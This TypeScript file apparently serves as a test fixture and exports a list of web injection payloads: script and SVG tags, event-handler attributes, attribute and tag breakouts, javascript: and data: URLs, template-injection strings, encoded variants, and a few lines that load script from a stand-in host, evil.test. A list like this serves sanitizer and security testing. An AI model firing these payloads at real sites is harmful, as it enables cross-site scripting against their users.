// Texts that would do something if they were taken for markup, for an address or for a template.

export const PAYLOADS: string[] = [
  // Elements that run or load something.
  "<script>hit()</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>hit()</scr</script>ipt>", "<script\u0000>hit()</script>",
  "<script/x>hit()</script>", "</script><script>hit()</script>", "<!--<script>--><script>hit()</script>", "<![CDATA[<script>hit()</script>]]>",
  "<img src=x onerror=hit()>", "<img src=x:x onerror=\"hit()\">", "<img/src/onerror=hit()>", "<IMG \"\"\"><SCRIPT>hit()</SCRIPT>\">", "<image src=x onerror=hit()>",
  "<svg onload=hit()>", "<svg/onload=hit()//", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set onend=hit() dur=1s>",
  "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x>", "<svg><style>{-o-link-source:'<body/onload=hit()>'}",
  "<math><mi//xlink:href=\"data:x,<script>hit()</script>\">", "<math><maction actiontype=statusline xlink:href=javascript:hit()>x",
  "<iframe src=javascript:hit()>", "<iframe srcdoc=\"<script>parent.hit()</script>\">", "<object data=javascript:hit()>", "<embed src=javascript:hit()>",
  "<link rel=stylesheet href=javascript:hit()>", "<base href=//evil.test/>", "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">", "<template><img src=x onerror=hit()></template>",
  // Handlers.
  "<body onload=hit()>", "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>", "<textarea autofocus onfocus=hit()>", "<details open ontoggle=hit()>",
  "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>", "<marquee onstart=hit()>", "<div onpointerover=hit()>x</div>", "<a href=# onclick=hit()>x</a>",
  "<button formaction=javascript:hit()>x</button>", "<form action=javascript:hit()><input type=submit>", "<keygen autofocus onfocus=hit()>",
  // Out of an attribute or of another text.
  "\"><script>hit()</script>", "'><img src=x onerror=hit()>", "\" onmouseover=\"hit()", "' onfocus='hit()' autofocus='", "` onmouseover=`hit()", "</td></tr></table><img src=x onerror=hit()>",
  "</title><script>hit()</script>", "</textarea><script>hit()</script>", "</style><script>hit()</script>", "\\\"-hit()//", "';hit();//",
  // Addresses.
  "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "data:text/html,<script>hit()</script>", "vbscript:hit()", "//evil.test/x",
  // Templates, encodings, terminals, directions.
  "{{constructor.constructor('hit()')()}}", "${hit()}", "&lt;script&gt;hit()&lt;/script&gt;", "%3Cscript%3Ehit()%3C/script%3E", "\u202e>tpircs<", "__proto__", "\u001b]0;hit\u0007",
];
